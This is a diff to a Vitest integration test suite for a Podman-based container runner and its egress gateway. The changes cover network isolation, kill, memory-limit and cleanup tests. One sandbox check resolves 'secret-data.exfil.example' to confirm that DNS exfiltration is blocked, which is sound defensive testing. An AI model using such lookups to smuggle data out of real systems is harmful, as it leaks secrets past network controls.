@@ -1,18 +1,18 @@
 import { once } from 'node:events';
 import { mkdtemp, rm, writeFile } from 'node:fs/promises';
 import { createServer } from 'node:net';
-import { tmpdir } from 'node:os';
+import { networkInterfaces, tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import { noAuditLog } from '../../../src/egress/audit.ts';
-import { createEgressGateway } from '../../../src/egress/gateway.ts';
+import { createEgressGateway, type EgressGateway } from '../../../src/egress/gateway.ts';
 import { silentLogger } from '../../../src/log.ts';
 import { networkRule } from '../../../src/manifest/host-pattern.ts';
 import { containerLabels } from '../../../src/runner/container-labels.ts';
 import { lockInstance } from '../../../src/runner/docker-instance.ts';
 import { probeEngines } from '../../../src/runner/doctor-engine.ts';
 import { runCliProcess } from '../../helpers/cli-process.ts';
-import { buildImage, containersOf, requireEngine, shellImage, startRunner, testLimits, textOf } from '../../helpers/docker-runner.ts';
+import { buildImage, containersOf, type RunnerUnderTest, requireEngine, shellImage, startRunner, testLimits, textOf } from '../../helpers/docker-runner.ts';
 import { isPodmanInstalled, type PodmanService, startPodmanService } from '../../helpers/podman-service.ts';
 import { asker, evaluatorImage } from './evaluator.ts';
 
@@ -69,10 +69,22 @@ describe.skipIf(!isPossible)('Podman', { timeout: 240_000 }, () => {
     { how: 'named pipes', shareFiles: true },
     { how: 'attach', shareFiles: false },
   ])('over $how', ({ shareFiles }) => {
-    const start = () => startRunner({ engine: podman.address, shareFiles });
+    // One for all of them: each asks Podman what it can do, which takes it seconds.
+    let under: RunnerUnderTest;
+    let gateway: EgressGateway;
+
+    beforeAll(async () => {
+      gateway = createEgressGateway({ audit: noAuditLog, log: silentLogger });
+      under = await startRunner({ engine: podman.address, shareFiles, gateway });
+      await under.runner.host().engine.facts();
+    }, 120_000);
+
+    afterAll(async () => {
+      await under?.[Symbol.asyncDispose]();
+      await gateway?.close();
+    }, 60_000);
 
     test('answers on stdout, keeps stderr apart, carries a megabyte unchanged, and ends when stdin does', async () => {
-      await using under = await start();
       const process = await under.start(images.echo);
       const received = Array.fromAsync(process.stdout);
       const stderr = textOf(process.stderr);
@@ -84,14 +96,12 @@ describe.skipIf(!isPossible)('Podman', { timeout: 240_000 }, () => {
     });
 
     test('tells the exit code', async () => {
-      await using under = await start();
       const process = await under.start(images.ends);
       process.stdin.end('7\n');
       expect(await process.exited).toEqual({ exitCode: 7, signal: null });
     });
 
     test('kill ends one that ignores every signal, its children included', async () => {
-      await using under = await start();
       const process = await under.start(images.stubborn);
       await once(process.stdout, 'data');
       process.kill();
@@ -100,7 +110,6 @@ describe.skipIf(!isPossible)('Podman', { timeout: 240_000 }, () => {
     });
 
     test('out of memory is named, with the limit', async () => {
-      await using under = await start();
       const process = await under.start(images.memory, { limits: { ...testLimits, memoryBytesMax: 32 * mebibyte } });
       await once(process.stdout, 'data');
       process.stdin.write('go\n');
@@ -109,46 +118,39 @@ describe.skipIf(!isPossible)('Podman', { timeout: 240_000 }, () => {
     });
 
     test('without network there is loopback only, and with rules what they allow', async () => {
-      const server = createServer((socket) => socket.end('from outside')).listen(0, '127.0.0.1');
+      const server = createServer((socket) => socket.end('from outside')).listen(0, '0.0.0.0');
       await once(server, 'listening');
       const { port } = server.address() as { port: number };
-      const gateway = createEgressGateway({ audit: noAuditLog, log: silentLogger });
-      {
-        await using under = await startRunner({ engine: podman.address, shareFiles, gateway });
-        const bare = asker(await under.start(images.evaluator));
-        expect(await bare(`Object.keys(process.getBuiltinModule('node:os').networkInterfaces())`)).toEqual(['lo']);
-        expect(await bare(`fetchText(${port}, '127.0.0.1', 'x')`)).toBe('ECONNREFUSED');
-        expect(await bare(`fetchText(80, '10.0.0.1', 'x')`)).toBe('ENETUNREACH');
-        const rules = [`127.0.0.1:${port}`, 'allowed.example:443'].map(networkRule);
-        const ruled = asker(await under.start(images.evaluator, { network: { type: 'rules', rules } }));
-        expect(await ruled(`fetchText(${port}, '127.0.0.1', 'x')`)).toBe('from outside');
-        expect(await ruled(`fetchText(${port + 1}, '127.0.0.1', 'x')`)).toBe('ECONNREFUSED');
-        expect(await ruled(`fetchText(80, '10.0.0.1', 'x')`)).toBe('ENETUNREACH');
-        expect(await ruled(`dns.lookup('allowed.example').then((a) => a.address)`)).toMatch(/^127\./);
-        expect(await ruled(`dns.resolve4('secret-data.exfil.example')`)).toMatch(/ENOTFOUND|EREFUSED|ESERVFAIL/);
-      }
-      await gateway.close();
+      const all = Object.values(networkInterfaces()).flatMap((list) => list ?? []);
+      const own = all.find(({ internal, family }) => !internal && family === 'IPv4')?.address;
+      const running = [await under.start(images.evaluator)];
+      const bare = asker(running[0]!);
+      expect(await bare(`Object.keys(process.getBuiltinModule('node:os').networkInterfaces())`)).toEqual(['lo']);
+      expect(await bare(`fetchText(${port}, '127.0.0.1', 'x')`)).toBe('ECONNREFUSED');
+      expect(await bare(`fetchText(80, '10.0.0.1', 'x')`)).toBe('ENETUNREACH');
+      const rules = [`127.0.0.1:${port}`, 'allowed.example:443', `${own}:${port}`].map(networkRule);
+      running.push(await under.start(images.evaluator, { network: { type: 'rules', rules } }));
+      const ruled = asker(running[1]!);
+      expect(await ruled(`fetchText(${port}, '127.0.0.1', 'x')`)).toBe('from outside');
+      expect(await ruled(`fetchText(${port + 1}, '127.0.0.1', 'x')`)).toBe('ECONNREFUSED');
+      expect(await ruled(`fetchText(80, '10.0.0.1', 'x')`)).toBe('ENETUNREACH');
+      expect(await ruled(`dns.lookup('allowed.example').then((a) => a.address)`)).toMatch(/^127\./);
+      expect(await ruled(`dns.resolve4('secret-data.exfil.example')`)).toMatch(/ENOTFOUND|EREFUSED|ESERVFAIL/);
+      // An address that a rule names is routed to the sidecar, where the gateway decides; nothing beyond is.
+      expect(await ruled(`fetchText(${port}, '${own}', 'x')`)).toBe('from outside');
+      expect(await ruled(`fetchText(9, '198.18.0.2', 'x', true)`)).toBe('ENETUNREACH');
       server.close();
+      for (const process of running) process.kill();
+      await Promise.all(running.map((process) => process.exited));
     });
-  });
-
-  test('a rule’s own address is routed to the sidecar', async () => {
-    const gateway = createEgressGateway({ audit: noAuditLog, log: silentLogger });
-    {
-      await using under = await startRunner({ engine: podman.address, gateway });
-      const network = { type: 'rules', rules: [networkRule('127.0.0.0/8:9'), networkRule('198.18.0.1:9')] } as const;
-      const ask = asker(await under.start(images.evaluator, { network }));
-      // Refused by the gateway, or by what it dials: anything but a missing route.
-      expect(await ask(`fetchText(9, '198.18.0.1', 'x', true)`)).not.toBe('ENETUNREACH');
-      expect(await ask(`fetchText(9, '198.18.0.2', 'x', true)`)).toBe('ENETUNREACH');
-    }
-    await gateway.close();
   });
 
   test('what a dead proxy left is removed', async () => {
     const dead = await lockInstance();
+    // Podman's own are more than this machine may give.
+    const HostConfig = { Ulimits: ['nofile', 'nproc'].map((Name) => ({ Name, Soft: 256, Hard: 256 })) };
     const labels = { ...containerLabels(dead, 'connector', 'left') };
-    await (await podman.engine.docker.createContainer({ Image: images.stubborn, Labels: labels })).start();
+    await (await podman.engine.docker.createContainer({ Image: images.stubborn, Labels: labels, HostConfig })).start();
     await dead.close();
     await using under = await startRunner({ engine: podman.address });
     await under.runner.reap();
@@ -160,7 +162,7 @@ describe.skipIf(!isPossible)('Podman', { timeout: 240_000 }, () => {
     const config = join(folder, 'bulkhead.yaml');
     const key = 'a-key-of-sufficient-length-1234567890';
     const keys = 'apiKeys: [{ name: test, key: { env: CONNECTOR_PROXY_API_KEY }, connectors: ["*"] }]';
-    await writeFile(config, `server:\n  ${keys}\n  engine: ${podman.address}\nconnectors:\n  boxed: { image: "${images.greeter}" }\n`);
+    await writeFile(config, `server:\n  ${keys}\n  engine: ${podman.address}\nconnectors:\n  boxed: { image: "${images.greeter}", limits: { start: 35s } }\n`);
     const { stdout, stderr, exitCode } = await runCliProcess(['call', 'boxed/Greet', '--config', config], {
       environment: { CONNECTOR_PROXY_API_KEY: key },
     });
